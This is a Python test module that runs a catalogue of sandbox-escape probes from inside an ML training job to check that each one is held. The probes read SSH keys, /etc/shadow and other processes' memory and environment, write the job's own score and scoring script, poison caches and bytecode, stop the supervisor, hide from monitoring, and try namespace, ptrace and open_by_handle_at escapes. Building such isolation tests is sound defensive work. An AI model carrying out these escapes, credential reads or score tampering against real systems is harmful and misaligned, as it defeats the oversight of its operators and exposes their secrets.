"""Ways out of a job, tried from inside. Standard library only; a copy of this file lies where the job can read it.

Each function gets the bait and returns what it got away with: a text, or nothing where it was held back. That it ran is
printed first, so that an attack that never happened does not count as one that was held. One that succeeds proves its point
and does no harm: it sets the clock to what it is, opens a file without writing to it, and removes the one that it made.
"""

import contextlib
import ctypes
import fcntl
import glob
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

Bait = dict[str, Any]
Attack = Callable[[Bait], object]
ATTACKS: dict[str, Attack] = {}
libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


RUN: set[str] = set()


def run_all(bait_file: str, names: list[str] | None = None) -> None:
    """Every attack in a process of its own, at most 20 seconds each; once in a step, which may run a training more than once."""
    if bait_file in RUN:
        return
    RUN.add(bait_file)
    bait = json.loads(Path(bait_file).read_text())
    for name, function in ATTACKS.items():
        if names and name not in names:
            continue
        sys.stdout.flush()
        pid = os.fork()
        if pid == 0:
            _one(name, function, bait)
        os.waitpid(pid, 0)
    print("ALL DONE", flush=True)


def _one(name: str, function: Attack, bait: Bait) -> None:
    signal.alarm(20)
    print(f"RAN {name}", flush=True)
    try:
        got = function(bait)
    except (OSError, ValueError, KeyError, subprocess.SubprocessError, MemoryError) as error:
        print(f"HELD {name} {type(error).__name__} {str(error)[:100]!r}", flush=True)
    else:
        print(f"GOT {name} {str(got)[:200]!r}" if got else f"HELD {name} nothing", flush=True)
    os._exit(0)


def syscall(x86: int, arm: int | None, *arguments: Any) -> int:
    number = x86 if X86 else arm
    if number is None:
        raise OSError(38, "no such call here")
    answer = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(answer)


def any_of(*tries: Callable[[], object]) -> str:
    """What the tries got, all of them made."""
    got = []
    for number, one in enumerate(tries):
        with contextlib.suppress(OSError, ValueError, subprocess.SubprocessError):
            if found := one():
                got.append(f"{number}: {str(found)[:80]}")
    return "; ".join(got)


def writes(path: str) -> Callable[[], object]:
    """Open an existing file to write, or make a new one and remove it."""

    def go() -> str:
        if os.path.lexists(path):
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
        else:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            os.unlink(path)
        return path

    return go


def reads(path: str) -> Callable[[], object]:
    return lambda: Path(path).read_bytes()[:60]


# -- reading what was not given


@attack
def read_ssh_key(bait: Bait) -> object:
    return any_of(reads(bait["ssh_key"]), reads(os.path.expanduser("~root/.ssh/id_rsa")))


@attack
def read_heldout_labels(bait: Bait) -> object:
    labels = Path(bait["labels"])
    sideways = Path(bait["heldout"]).parent / ".." / "private" / labels.name
    return any_of(
        reads(str(labels)), reads(str(sideways)), lambda: os.listdir(labels.parent), reads(f"/proc/self/root{labels}")
    )


@attack
def learn_from_the_heldout_file(bait: Bait) -> object:
    """By size, time, owner, attribute or name: nothing but an array of images lies there. (That its order tells nothing: test_prepare.)"""
    told = os.stat(bait["heldout"])
    header, images = 128, 20 * 64
    return any_of(
        lambda: set(os.listdir(Path(bait["heldout"]).parent)) - {"validation.npy", "test.npy"},
        lambda: told.st_size != header + images and f"{told.st_size} bytes",
        lambda: os.listxattr(bait["heldout"]),
        lambda: [p for p in os.listdir(Path(bait["heldout"]).parent.parent) if p not in {"train", "heldout"}],
    )


@attack
def caches_of_others(bait: Bait) -> object:
    """What the person, another run or an earlier job compiled or downloaded: to read, and to poison."""
    return any_of(*[reads(path) for path in bait["caches"]], *[writes(path) for path in bait["caches"]])


@attack
def weights_that_were_given(bait: Bait) -> object:
    """They can be read, or all of this shows nothing. They cannot be changed or replaced, nothing can be put beside them, and others are not there."""
    place = Path(os.environ["HF_HUB_CACHE"]).parent / bait["given_at"]
    if place.read_text() != "weights for all":
        return "what was given cannot be read"
    cache = Path(bait["given"]).parent.parent.parent
    return any_of(
        writes(str(place)),
        writes(bait["given"]),
        *[
            writes(str(folder / "new"))
            for folder in (place.parent, *place.parents[2:5], cache, Path(os.environ["TORCH_HOME"]))
        ],
        lambda: os.rename(place, place.with_name("old")) or "renamed",
        lambda: os.unlink(place) or "removed",
        lambda: set(os.listdir(cache)) - {"models--timm--given"},
    )


@attack
def caches_outside_the_work_directory(bait: Bait) -> object:
    names = ("XDG_CACHE_HOME", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "CUDA_CACHE_PATH", "HOME")
    return [name for name in names if not f"{os.path.realpath(os.environ[name])}/".startswith(f"{os.getcwd()}/")]


@attack
def read_the_original_images(bait: Bait) -> object:
    return any_of(lambda: os.listdir(bait["originals"]), reads(bait["originals"] + "/cat/1.png"))


@attack
def read_the_store(bait: Bait) -> object:
    return any_of(
        reads(bait["store"]), writes(bait["store"]), lambda: Path(bait["store"]).name in os.listdir(bait["home"])
    )


@attack
def read_etc_shadow(bait: Bait) -> object:
    return any_of(reads("/etc/shadow"), reads("/etc/sudoers"))


@attack
def read_other_runs(bait: Bait) -> object:
    other = bait["other_run"]
    return any_of(reads(other), lambda: os.listdir(Path(other).parent), writes(other))


@attack
def read_earlier_jobs_of_this_run(bait: Bait) -> object:
    return any_of(lambda: os.listdir(bait["jobs"]), reads(bait["earlier_job"]), writes(bait["earlier_job"]))


@attack
def read_a_dotenv_beside_our_code(bait: Bait) -> object:
    return any_of(reads(bait["project"] + "/pyproject.toml"), lambda: os.listdir(bait["project"] + "/tests"))


@attack
def read_through_handles(bait: Bait) -> object:
    """open_by_handle_at asks no directory (the container escape called shocker)."""
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    syscall(303, 264, -100, ctypes.c_char_p(b"/usr"), handle, ctypes.byref(mount), 0)
    directory = os.open("/usr", os.O_RDONLY)
    return syscall(304, 265, directory, handle, os.O_RDONLY)


@attack
def environment_of_the_person(bait: Bait) -> object:
    forbidden = {"LD_PRELOAD", "PYTHONSTARTUP", "OPENAI_API_KEY", "PYTHONINSPECT", "BASH_ENV"} & set(os.environ)
    return forbidden or any_of(lambda: bait["secret"] in str(dict(os.environ)) and "secret in the environment")


@attack
def environ_of_other_processes(bait: Bait) -> object:
    return next((path for path in glob.glob("/proc/[0-9]*/environ") if _holds(path, bait["secret"])), None)


@attack
def cmdline_of_other_processes(bait: Bait) -> object:
    return next((path for path in glob.glob("/proc/[0-9]*/cmdline") if _holds(path, bait["told"])), None)


@attack
def memory_and_files_of_other_processes(bait: Bait) -> object:
    victim = bait["victim"]
    return any_of(
        lambda: os.readlink(f"/proc/{victim}/fd/0"),
        lambda: os.open(f"/proc/{victim}/fd/0", os.O_RDONLY),
        lambda: os.open(f"/proc/{victim}/mem", os.O_RDWR),
        reads(f"/proc/{victim}/maps"),
        reads(f"/proc/{victim}/root{bait['ssh_key']}"),
        lambda: os.listdir(f"/proc/{victim}/cwd/"),
    )


@attack
def warm_process_that_we_come_from(bait: Bait) -> object:
    above = {os.getppid()} | {
        int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*/comm") if "python" in Path(p).read_text()
    }
    family, me = set(), os.getppid()
    while me > 1:
        family.add(me)
        me = int(Path(f"/proc/{me}/stat").read_text().rpartition(")")[2].split()[1])
    outside = above & set(sorted(family)[:-1]) if len(family) > 2 else set()
    own = {os.getppid()}  # this job's, which it may do with as it likes
    return any_of(*[lambda p=p: os.open(f"/proc/{p}/mem", os.O_RDWR) for p in outside - own])


@attack
def inherited_descriptors(bait: Bait) -> object:
    known = {os.path.realpath(bait["room"]), "/dev/null"}
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            mine = any(target.startswith(path) for path in known) or target.startswith(
                ("pipe:", "/proc/", "anon_inode:")
            )
            if not mine and not target.startswith(bait["data"]):
                found.append(target)
    return found


def _holds(path: str, text: str) -> bool:
    with contextlib.suppress(OSError):
        return text.encode() in Path(path).read_bytes()
    return False


# -- writing where nothing of ours is


@attack
def write_outside(bait: Bait) -> object:
    return any_of(*(writes(f"{place}/owned") for place in bait["outside"]))


@attack
def delete_or_edit_the_data(bait: Bait) -> object:
    images = bait["data"] + "/images.npy"
    labels = bait["data"] + "/labels.npy"
    return any_of(
        lambda: os.unlink(images) or "unlink",
        writes(images),
        lambda: os.truncate(images, 10) or "truncate",
        lambda: os.close(os.open(images, os.O_RDONLY | os.O_TRUNC)) or (os.path.getsize(images) == 0 and "O_TRUNC"),
        lambda: os.rename(images, images + "x") or "rename",
        lambda: os.setxattr(images, "user.a", b"1") or "setxattr",
        lambda: os.symlink("/etc/passwd", bait["data"] + "/link") or "symlink",
        lambda: os.link(labels, "labels") or (writes("labels")() and "hard link"),
        lambda: _changed(labels, lambda: os.chmod(labels, 0o777)),
        lambda: _changed(labels, lambda: os.utime(labels, (1, 1))),
    )


@attack
def tamper_with_what_is_run(bait: Bait) -> object:
    """The script and configuration of this very job, our own packages, and the Python environment."""
    site = next(path for path in sys.path if path.endswith("site-packages"))
    return any_of(
        writes(bait["room"] + "/pipeline.py"),
        writes(bait["room"] + "/config.json"),
        lambda: os.rename(bait["room"] + "/pipeline.py", "pipeline.py"),
        writes(bait["project"] + "/sandbox/scoring.py"),
        writes(site + "/owned.txt"),
        writes(str(Path(os.__file__).parent / "owned.txt")),
    )


@attack
def write_own_score(bait: Bait) -> object:
    job = bait["job"]
    return any_of(writes(job + "/result.json"), writes(job + "/owned"), lambda: os.rename("stack.txt", job + "/work"))


@attack
def links_out_of_the_work_directory(bait: Bait) -> object:
    def link() -> object:
        os.link(bait["ssh_key"], "key")
        return Path("key").read_text()

    def move() -> object:
        Path("mine").write_text("x")
        os.rename("mine", bait["home"] + "/moved")
        return "moved"

    def checkpoint() -> object:
        os.link(bait["other_run"], "weights-of-another-run")
        return "a checkpoint of another run under our name"

    return any_of(link, move, checkpoint, lambda: os.symlink(bait["ssh_key"], "sym") or Path("sym").read_text())


@attack
def dirty_paths(bait: Bait) -> object:
    up = "../" * 40
    return any_of(
        reads(up + bait["ssh_key"].lstrip("/")),
        reads(f"/proc/self/cwd/{up}{bait['ssh_key'].lstrip('/')}"),
        reads(f"/proc/1/root{bait['ssh_key']}"),
        reads(f"/proc/{os.getppid()}/root{bait['ssh_key']}"),
        lambda: os.fchdir(os.open("/", os.O_RDONLY)) or Path(bait["ssh_key"].lstrip("/")).read_text(),
    )


@attack
def tmpfs_of_root_and_dev(bait: Bait) -> object:
    return any_of(writes("/owned"), writes("/dev/owned"), lambda: os.mkdir("/proc/owned") or "proc")


@attack
def devices(bait: Bait) -> object:
    nodes = [
        p for p in glob.glob("/dev/*") if not p.endswith(("null", "zero", "full", "random", "urandom", "tty", "ptmx"))
    ]

    def node() -> object:
        os.mknod("disk", 0o60600, os.makedev(8, 0))
        return os.open("disk", os.O_RDONLY)

    blocks = [p for p in nodes if os.path.exists(p) and not os.path.isdir(p) and not os.path.islink(p)]
    return any_of(node, *[lambda p=p: os.open(p, os.O_RDWR | os.O_NONBLOCK) for p in blocks])


@attack
def kernel_settings(bait: Bait) -> object:
    files = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper",
             "/proc/self/oom_score_adj_"]  # fmt: skip
    cgroups = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:3]
    return any_of(*[lambda p=p: os.open(p, os.O_WRONLY) and p for p in [*files, *cgroups]])


# -- the network and other programs


@attack
def tcp_loopback(bait: Bait) -> object:
    return any_of(
        *[lambda f=f, h=h: _ask(socket.socket(f), (h, bait["tcp"])) for f, h in ((2, "127.0.0.1"), (10, "::1"))]
    )


@attack
def udp_loopback(bait: Bait) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(1)
        out.sendto(b"hello", ("127.0.0.1", bait["udp"]))
        return out.recv(100)


@attack
def mptcp_loopback(bait: Bait) -> object:
    return _ask(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), ("127.0.0.1", bait["tcp"]))


@attack
def listen_for_others(bait: Bait) -> object:
    """A server that outsiders can reach would be a way to be told the labels."""
    server = socket.create_server(("127.0.0.1", 0))
    inside = os.stat("/proc/self/ns/net").st_ino
    return server.getsockname() if inside == bait["net_namespace"] else None


@attack
def io_uring(bait: Bait) -> object:
    return syscall(425, 425, 8, ctypes.create_string_buffer(120)) >= 0 and "a ring"


@attack
def odd_sockets(bait: Bait) -> object:
    kinds = [(40, 1, 0), (17, 3, 768), (2, 3, 1), (38, 5, 0), (44, 3, 0), (31, 1, 0), (30, 1, 0)]
    return any_of(*[lambda k=k: socket.socket(*k) and k for k in kinds])


@attack
def abstract_unix_socket(bait: Bait) -> object:
    return _ask(socket.socket(socket.AF_UNIX), "\0" + bait["abstract"])


@attack
def pathname_unix_socket(bait: Bait) -> object:
    return any_of(*[lambda p=p: _ask(socket.socket(socket.AF_UNIX), p) for p in bait["sockets"]])


@attack
def sysv_and_posix_queues(bait: Bait) -> object:
    return (
        any_of(
            lambda: _shmat(bait["sysv"]),
            lambda: syscall(68, 186, 0x1234, 0o666) >= 0 and "a message queue",
        )
        if bait["ipc_namespace"] == os.stat("/proc/self/ns/ipc").st_ino
        else None
    )


@attack
def shared_memory_of_others(bait: Bait) -> object:
    return any_of(*[reads(path) for path in glob.glob("/dev/shm/*")], reads(bait["shm"]))


@attack
def signals_to_others(bait: Bait) -> object:
    return any_of(
        *[
            lambda p=p, s=s: _pid_is(p, bait) and (os.kill(p, s) or f"signal {s}")
            for p in bait["others"]
            for s in (0, signal.SIGURG)
        ]
    )


@attack
def signals_upwards(bait: Bait) -> object:
    """To the warm process and the guard: what is above the job's own first process."""
    chain = [os.getppid()]
    while chain[-1] > 1:
        chain.append(int(Path(f"/proc/{chain[-1]}/stat").read_text().rpartition(")")[2].split()[1]))
    return any_of(*[lambda p=p: os.kill(p, signal.SIGURG) or p for p in chain[1:] if p > 0])


@attack
def priority_of_others(bait: Bait) -> object:
    """Slowing a rival down: nice, cores, scheduling class, limits."""
    victims = [p for p in bait["others"][:1] if _pid_is(p, bait)]
    return any_of(
        *[lambda p=p: os.setpriority(os.PRIO_PROCESS, p, 19) or "nice" for p in victims],
        *[
            lambda p=p: (
                os.sched_setaffinity(p, {0}) or (os.sched_getaffinity(p) == {0} and bait["cores"] > 1 and "cores")
            )
            for p in victims
        ],
        *[lambda p=p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)) or "idle class" for p in victims],
        *[lambda p=p: resource.prlimit(p, resource.RLIMIT_CORE, (0, 0)) and "limits" for p in victims],
    )


@attack
def slow_down_all_that_the_user_runs(bait: Bait) -> object:
    """By user and by group: no process is named, and every one of them is hit."""
    victims = [p for p in bait["others"][:1] if _pid_is(p, bait)]
    before = [_nice(p) for p in victims]
    for kind in (os.PRIO_USER, os.PRIO_PGRP):
        with contextlib.suppress(OSError):
            os.setpriority(kind, 0, 1)
    disk = (
        any_of(
            *[lambda kind=kind: syscall(251, 30, kind, os.getuid(), 2 << 13 | 7) == 0 and "the disk" for kind in (2, 3)]
        )
        if victims
        else ""
    )
    return [p for p, was in zip(victims, before, strict=True) if _nice(p) != was] or disk


@attack
def signals_by_other_calls(bait: Bait) -> object:
    """Queued, by a file that is ready, by a socket: a signal that is not sent with kill()."""
    victims = [p for p in bait["others"][:1] if _pid_is(p, bait)]
    info = (ctypes.c_int * 32)(0, 0, -1)  # SI_QUEUE
    reading, writing = os.pipe()
    left, _right = socket.socketpair()
    owner = ctypes.c_int * 2
    return any_of(
        *[lambda p=p: syscall(129, 138, p, 0, info) == 0 and "queued" for p in victims],
        *[lambda p=p: syscall(297, 240, p, p, 0, info) == 0 and "queued for a thread" for p in victims],
        *[
            lambda p=p: (
                fcntl.fcntl(reading, fcntl.F_SETOWN, p) == 0
                and fcntl.fcntl(reading, fcntl.F_SETSIG, signal.SIGURG) == 0
                and "a pipe"
            )
            for p in victims
        ],
        *[lambda p=p: fcntl.fcntl(writing, 15, owner(1, p)) and "F_SETOWN_EX" for p in victims],
        *[lambda p=p: fcntl.ioctl(left, 0x8902, struct.pack("i", p)) == 0 and "a socket" for p in victims],
    )


@attack
def write_about_others_in_proc(bait: Bait) -> object:
    """Who is ended first for want of memory, and who comes last: files of other processes."""
    victims = [p for p in bait["others"] if _pid_is(p, bait)]
    return any_of(
        *[
            lambda p=p, f=f: os.close(os.open(f"/proc/{p}/{f}", os.O_WRONLY)) or f
            for p in victims
            for f in ("oom_score_adj", "autogroup", "comm", "coredump_filter", "clear_refs")
        ]
    )


@attack
def attributes_that_outlive_the_files(bait: Bait) -> object:
    """Of the work directory and of scratch: what the next job would find, or would not be able to write."""
    default_acl = struct.pack("<IHHIHHIHHI", 2, 0x01, 7, 0xFFFFFFFF, 0x04, 7, 0xFFFFFFFF, 0x20, 7, 0xFFFFFFFF)

    def flags(place: str) -> object:
        descriptor = os.open(place, os.O_RDONLY)
        try:
            return fcntl.ioctl(descriptor, 0x40086602, struct.pack("l", 0x8)) is not None and "flags"
        finally:
            os.close(descriptor)

    places = (".", os.environ["TMPDIR"], "/dev/shm")
    return any_of(
        *[lambda p=p: os.setxattr(p, "user.x", b"handed on") or "an attribute" for p in places],
        *[lambda p=p: os.setxattr(p, "system.posix_acl_default", default_acl) or "an access list" for p in places],
        *[lambda p=p: flags(p) for p in places],
    )


@attack
def come_before_others(bait: Bait) -> object:
    """Priority, scheduling class and order of the disk that only the machine gives, and to be the last that is ended for want of memory."""

    def boldness() -> object:
        Path("/proc/self/oom_score_adj").write_text("-500")
        return "not the first to go"

    def autogroup() -> object:
        Path("/proc/self/autogroup").write_text("-10")
        return "a group that comes first"

    return any_of(
        lambda: os.setpriority(os.PRIO_PROCESS, 0, -5) or "nice",
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)) or "real time",
        lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(10)) or "real time by turns",
        lambda: syscall(251, 30, 1, 0, 1 << 13) == 0 and "the disk in real time",
        lambda: resource.setrlimit(resource.RLIMIT_RTPRIO, (50, 50)) or "a right to real time",
        boldness,
        autogroup,
    )


@attack
def ptrace_and_vm_read(bait: Bait) -> object:
    buffer = ctypes.create_string_buffer(64)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
    remote = (ctypes.c_size_t * 2)(0x400000, 64)
    return any_of(
        *[lambda p=p: _pid_is(p, bait) and syscall(101, 117, 16, p, 0, 0) == 0 and "attached" for p in bait["others"]],
        lambda: syscall(310, 270, os.getppid(), local, 1, remote, 1, 0) >= 0 and "process_vm_readv",
        lambda: syscall(438, 438, os.pidfd_open(os.getppid()), 0, 0) >= 0 and "pidfd_getfd",
    )


# -- becoming more than a job


@attack
def namespaces_and_mounts(bait: Bait) -> object:
    return any_of(
        lambda: syscall(272, 97, 0x10000000) == 0 and "user namespace",
        lambda: syscall(272, 97, 0x00020000) == 0 and "mount namespace",
        lambda: (
            syscall(165, 40, ctypes.c_char_p(b"x"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"), 0, 0) == 0
            and "mount"
        ),
        lambda: syscall(308, 268, os.open(f"/proc/{os.getppid()}/ns/mnt", os.O_RDONLY), 0) == 0 and "setns",
        lambda: syscall(161, 51, ctypes.c_char_p(b".")) == 0 and "chroot",
        lambda: _clone_user_namespace(),
        lambda: subprocess.run(["unshare", "-r", "true"], capture_output=True).returncode == 0 and "unshare",
    )


@attack
def kernel_surface(bait: Bait) -> object:
    blank = ctypes.create_string_buffer(256)
    return any_of(
        lambda: syscall(321, 280, 5, blank, 120) >= 0 and "bpf",
        lambda: syscall(298, 241, blank, 0, -1, -1, 0) >= 0 and "perf_event_open",
        lambda: syscall(323, 282, 1) >= 0 and "userfaultfd",
        lambda: syscall(248, 217, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"a"), blank, 8, -3) >= 0 and "add_key",
        lambda: syscall(250, 219, 0, -3, 1) >= 0 and "keyctl",
        lambda: syscall(135, 92, 0x0040000) >= 0 and "personality",
        lambda: syscall(300, 262, 0, 0) >= 0 and "fanotify",
        lambda: X86 and syscall(1073741863, None) and "x32",
    )


@attack
def change_the_clock(bait: Bait) -> object:
    now = (ctypes.c_long * 2)(int(time.time()), 0)
    nothing = ctypes.create_string_buffer(struct.pack("=I", 0x0001) + bytes(252))  # an offset of nothing
    return any_of(
        lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or "clock_settime",
        lambda: syscall(164, 170, now, 0) == 0 and "settimeofday",
        lambda: syscall(305, 266, 0, nothing) >= 0 and "clock_adjtime",
        lambda: (
            os.stat("/proc/self/ns/uts").st_ino == bait["uts_namespace"]
            and (socket.sethostname(socket.gethostname()) or "hostname")
        ),
    )


@attack
def setuid_programs(bait: Bait) -> object:
    program = next((p for p in ("/usr/bin/su", "/bin/su", "/usr/bin/mount") if os.path.exists(p)), None)
    if program is None or os.geteuid() == 0:
        return os.geteuid() == 0 and "root already"
    with subprocess.Popen(
        [program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as child:
        time.sleep(0.1)
        with contextlib.suppress(OSError):
            uids = Path(f"/proc/{child.pid}/status").read_text().split("Uid:")[1].split()[:4]
            child.kill()
            return "0" in uids and f"uids {uids}"
    return None


@attack
def regain_rights(bait: Bait) -> object:
    header, data = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 3, 0, 0, 0)
    status = Path("/proc/self/status").read_text()
    return any_of(
        lambda: os.setresuid(0, 0, 0) or "root",
        lambda: syscall(126, 91, header, data) == 0 and "capset",
        lambda: "NoNewPrivs:\t0" in status and "new privileges are possible",
        lambda: "Seccomp:\t0" in status and "no filter",
    )


@attack
def raise_own_limits(bait: Bait) -> object:
    names = ("NOFILE", "NPROC", "FSIZE", "CORE")
    kinds = [getattr(resource, f"RLIMIT_{name}") for name in names]
    return any_of(*[lambda k=k: resource.setrlimit(k, (resource.RLIM_INFINITY,) * 2) or k + 100 for k in kinds])


@attack
def keystrokes_for_the_terminal(bait: Bait) -> object:
    def push(descriptor: int) -> str:
        fcntl.ioctl(descriptor, 0x5412, b"x")
        return "typed"

    return any_of(*[lambda d=d: push(d) for d in (0, 1, 2)], lambda: push(os.open("/dev/tty", os.O_RDWR)))


@attack
def hide_from_the_watch(bait: Bait) -> object:
    return any_of(lambda: libc.prctl(4, 0, 0, 0, 0) == 0 and "not dumpable")


@attack
def many_descriptors(bait: Bait) -> object:
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    return len(held) >= 20_000 and f"{len(held)} descriptors"


@attack
def leases_on_what_others_read(bait: Bait) -> object:
    """Whoever opens such a file waits for most of a minute: the next job, or another run's."""
    files = [bait["data"] + "/images.npy", bait["heldout"], os.__file__, bait["given"]]
    return any_of(
        *[
            lambda f=f, kind=kind: fcntl.fcntl(os.open(f, os.O_RDONLY), fcntl.F_SETLEASE, kind) or f
            for f in files
            for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK)
        ]
    )


@attack
def what_the_kernel_counts_by_user(bait: Bait) -> object:
    """A hundred and some inotify instances are all that the person's programs have together."""
    return any_of(lambda: libc.inotify_init1(0) >= 0 and "inotify")


@attack
def kernel_memory_that_outlasts_its_maker(bait: Bait) -> object:
    return any_of(
        lambda: syscall(29, 194, 0, 4096, 0o1600) >= 0 and "a segment",
        lambda: syscall(68, 186, 0, 0o1600) >= 0 and "a queue",
        lambda: syscall(64, 190, 0, 1, 0o1600) >= 0 and "a semaphore",
        lambda: syscall(447, 447, 0) >= 0 and "memory that only it sees",
    )


@attack
def files_where_the_watch_does_not_look(bait: Bait) -> object:
    """A thread with a table of open files of its own."""
    return any_of(lambda: syscall(436, 436, 1000, 1001, 2) == 0 and "a table of its own")


@attack
def lock_files_that_the_trusted_side_locks(bait: Bait) -> object:
    """A lock needs no right to write: whatever of these can be opened can be held."""
    run = Path(bait["room"]).parent
    files = [run / "supervisor.lock", Path(bait["job"]) / "lock", Path(bait["home"]) / "lock", Path("/run/improve")]
    return any_of(
        *[lambda f=f: fcntl.flock(os.open(f, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB) or f for f in files]
    )


@attack
def look_like_another_program(bait: Bait) -> object:
    """A tracer that may come from anywhere (PR_SET_PTRACER), and the file of a program that is another's (PR_SET_MM)."""
    libc.prctl(0x59616D61, -1, 0, 0, 0)
    return any_of(lambda: libc.prctl(35, 13, os.open("/dev/null", os.O_RDONLY), 0, 0) == 0 and "another program's name")


@attack
def work_directory_replaced(bait: Bait) -> object:
    here = bait["room"] + "/work"

    def swap() -> object:
        os.rename(here, here + "-old")
        return "renamed"

    return any_of(
        swap,
        lambda: os.rmdir(here) or "removed",
        lambda: os.symlink("/etc", bait["room"] + "/link") or "a link beside it",
    )


@attack
def poisoned_bytecode(bait: Bait) -> object:
    """Compiled files beside what is imported: of Python, of the packages, of ours, of the script."""
    import importlib.util

    sources = [
        os.__file__,
        json.__file__,
        bait["project"] + "/sandbox/harness.py",
        bait["room"] + "/pipeline.py",
        bait["data"] + "/x.py",
    ]
    compiled = [Path(importlib.util.cache_from_source(source)) for source in sources]
    return any_of(
        *[writes(str(path)) for path in compiled],
        *[
            lambda p=path: os.mkdir(p.parent) or (os.rmdir(p.parent) or "a folder for them")
            for path in compiled
            if not path.parent.exists()
        ],
    )


@attack
def descriptors_of_above(bait: Bait) -> object:
    """The log's pipe leads to the supervisor: it is to write to, not a way to what it has open."""
    above = [os.getppid()]
    while above[-1] > 1:
        above.append(int(Path(f"/proc/{above[-1]}/stat").read_text().rpartition(")")[2].split()[1]))
    known = [f"/proc/{p}/fd/{number}" for p in above[1:] if p > 0 for number in range(64)]
    return any_of(*[lambda path=path: os.readlink(path) for path in known], *[reads(path) for path in known[:8]])


@attack
def pseudo_terminals(bait: Bait) -> object:
    return any_of(
        lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY) and "a terminal",
        lambda: os.open("/dev/pts/ptmx", os.O_RDWR) and "one",
    )


@attack
def locked_memory_and_huge_pages(bait: Bait) -> object:
    size = 2**31
    address = libc.mmap
    address.restype = ctypes.c_void_p
    place = address(None, ctypes.c_size_t(size), 3, 0x22, -1, ctypes.c_long(0))
    return any_of(
        lambda: libc.mlock(ctypes.c_void_p(place), ctypes.c_size_t(size)) == 0 and "2 GB that cannot be swapped"
    )


@attack
def core_dump(bait: Bait) -> object:
    pid = os.fork()
    if pid == 0:
        os.abort()
    _, status = os.waitpid(pid, 0)
    return (
        (os.WCOREDUMP(status) and "a core was dumped")
        or glob.glob("core*")
        or resource.getrlimit(resource.RLIMIT_CORE)[1]
    )


@attack
def stop_the_supervisor(bait: Bait) -> object:
    return any_of(
        *[lambda p=p: _pid_is(p, bait) and (os.kill(p, signal.SIGSTOP) or "stopped") for p in bait["supervisors"]]
    )


@attack
def leave_something_for_the_next_job(bait: Bait) -> object:
    """In whatever can be written besides the work directory; the next job looks for it."""
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"]):
        with contextlib.suppress(OSError):
            Path(place, "left-behind").write_text("for the next")
    return None


@attack
def find_what_the_job_before_left(bait: Bait) -> object:
    caches = [os.environ[name] for name in ("TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "TORCH_HOME", "HOME")]
    places = ("/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"], *caches)
    found = [str(Path(place, "from-before")) for place in places if Path(place, "from-before").exists()]
    for place in places:
        with contextlib.suppress(OSError):
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, "from-before").write_text("x")
    return found


def _ask(client: socket.socket, address: Any) -> bytes:
    with client:
        client.settimeout(2)
        client.connect(address)
        return client.recv(100)


def _pid_is(pid: int, bait: Bait) -> bool:
    """The number means the same process in here only where its start time does."""
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[19] == bait["began"].get(str(pid))
    return False


def _nice(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[16])


def _changed(path: str, change: Callable[[], object]) -> object:
    before = os.stat(path)
    change()
    after = os.stat(path)
    return (before.st_mode, before.st_mtime) != (after.st_mode, after.st_mtime) and "changed"


def _shmat(number: int) -> object:
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0o10000)
    return ctypes.string_at(address, 20) if address not in {None, ctypes.c_void_p(-1).value} else None


def _clone_user_namespace() -> object:
    pid = syscall(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "cloned a user namespace"
